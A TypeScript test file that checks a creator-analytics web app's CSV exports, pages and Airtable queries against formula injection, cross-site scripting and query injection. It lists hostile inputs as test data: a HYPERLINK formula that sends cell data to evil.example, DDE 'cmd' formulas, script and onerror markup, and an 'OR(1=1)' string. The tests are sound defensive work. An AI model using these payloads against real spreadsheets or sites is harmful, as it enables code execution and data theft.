import { createServer, type Server } from "node:http";
import { text as readText } from "node:stream/consumers";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type AttackTarget, startAttackTarget } from "../../helpers/attack-target";
import { FROM_OWN_PAGE } from "../../helpers/own-page";
import { headerOf } from "../../helpers/raw-request";
import { isFormula, readCsv } from "../../helpers/read-csv";
import { sessionCookie } from "../../helpers/sign-in";
import type { SandboxRequest } from "../../sandbox/http";

/** Names that a shop might give itself or its goods, to be run by whoever opens the file. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Total")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  ' "=1+1',
  "\u200B=1+1",
  "＝1+1",
  "＋1",
  "−1",
  "＠x",
  "﹦1",
  'name","=1+1',
  "name\r\n=1+1,x",
] as const;
const MARKUP = '"><img src=x onerror=alert(1)><script>alert(2)</script>{{7*7}}';
const NAMES = /^(advertiser_display_name|advertiser_name|product_title|product_name)$/;
const NUMBER = /^-?\d+(\.\d+)?$/;

let gateway: Server;
let target: AttackTarget;
let cookie: string;
const airtableCalls: SandboxRequest[] = [];

/** LTK as it would be if shops were free in their names: the simulator's answers, with these names put in. */
async function startHostileGateway(upstreamUrl: () => string): Promise<[Server, string]> {
  let named = 0;
  const name = () => {
    named += 1;
    return [...FORMULAS, MARKUP][named % (FORMULAS.length + 1)];
  };
  const server = createServer(async (request, response) => {
    const headers = Object.entries(request.headers).flatMap(([key, value]) =>
      key === "host" || key === "connection" || typeof value !== "string"
        ? []
        : [[key, value] as [string, string]],
    );
    await readText(request);
    const answer = await fetch(upstreamUrl() + (request.url ?? "/"), { headers });
    const body = JSON.parse(await answer.text(), (key, value) =>
      NAMES.test(key) ? name() : value,
    );
    response.writeHead(answer.status, { "content-type": "application/json" });
    response.end(JSON.stringify(body));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;
  return [server, `http://127.0.0.1:${port}`];
}

beforeAll(async () => {
  // It listens before anything else is started: a port that is only known to be free may be taken by then.
  const [server, url] = await startHostileGateway(() => target.sandbox.urls.gateway);
  gateway = server;
  target = await startAttackTarget({
    env: { LTK_API_URL: url },
    watch: ({ upstream, request }) => {
      if (upstream === "airtable") airtableCalls.push(request);
      return undefined;
    },
  });
  cookie = await sessionCookie();
});

afterAll(async () => {
  await target.close();
  gateway.close();
});

function get(path: string) {
  return target.send(path, { headers: { cookie } });
}

async function cellsOf(view: string): Promise<readonly string[]> {
  const response = await fetch(`${target.url}/api/ltk/bea-ortiz/export?view=${view}&range=28d`, {
    headers: { cookie },
  });
  expect(response.status).toBe(200);
  // `text()` would drop the mark at the beginning.
  const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
  return readCsv(decoder.decode(await response.arrayBuffer())).flat();
}

test.each(["items-sold", "top-performers"])(
  "the file of %s has every name of the shops, and none that a spreadsheet would run",
  async (view) => {
    const cells = await cellsOf(view);
    const runs = (cell: string) => isFormula(cell) && !cell.startsWith("'") && !NUMBER.test(cell);
    expect(cells.filter(runs)).toEqual([]);
    const guarded = FORMULAS.filter((name) => isFormula(name));
    expect(guarded.length).toBeGreaterThan(12);
    for (const name of guarded) expect(cells).toContain(`'${name}`);
  },
);

test("a file's names and headers are our own words, whatever the shops and creators are called", async () => {
  const { head } = await get("/api/ltk/bea-ortiz/export?view=items-sold&range=28d");
  expect(headerOf({ head }, "content-disposition")).toMatch(
    /^attachment; filename="[\w.-]+\.csv"$/,
  );
  expect(headerOf({ head }, "x-content-type-options")).toBe("nosniff");
});

test("markup in a shop's name is text on the page and in JSON", async () => {
  const page = await get("/creator/bea-ortiz");
  expect(page.status).toBe(200);
  expect(page.body).not.toContain("<img src=x");
  expect(page.body).not.toContain("<script>alert(2)");
  const lists = await get("/api/ltk/bea-ortiz/top-performers?range=28d&limit=50");
  expect(lists.body).toContain("<img src=x");
  expect(headerOf(lists, "content-type")).toMatch(/^application\/json/);
});

test.each([MARKUP, ...FORMULAS.slice(0, 2)])(
  "a creator whom Airtable calls %j is text on every page, and her file is none of it",
  async (name) => {
    target.sandbox.setRow("cleo-park", { Creator: name });
    target.sandbox.setPerson("noor@studio.example", { Name: name });
    for (const path of ["/", "/creator/cleo-park", "/settings"]) {
      const { status, body } = await get(path);
      expect(status).toBe(200);
      expect(body).not.toContain("<img src=x");
      expect(body).not.toContain("<script>alert(2)");
    }
  },
);

test("what visitors write never reaches a query of Airtable's: no call has a formula", async () => {
  const attack = "'OR(1=1)'";
  const text = encodeURIComponent(attack);
  const form = (fields: Record<string, string>) => ({
    method: "POST",
    headers: FROM_OWN_PAGE,
    body: new URLSearchParams(fields),
  });
  await target.repel(async () => [
    await get(`/api/ltk/${text}/overview`),
    await get(`/creator/${text}`).then((heard) => ({ ...heard, body: "" })),
    await get(`/api/roster?range=${text}`),
    await get(`/api/ltk/ava-lane/items-sold?cursor=${text}`),
    await target.send("/api/sign-in-links", form({ email: `${attack}@studio.example` })),
    await target.send("/api/session", form({ token: attack })),
  ]);
  expect(airtableCalls.length).toBeGreaterThan(0);
  for (const { url, body } of airtableCalls) {
    expect(url.search + body).not.toMatch(/formula/i);
    expect(decodeURIComponent(url.href) + body).not.toContain(attack);
  }
});
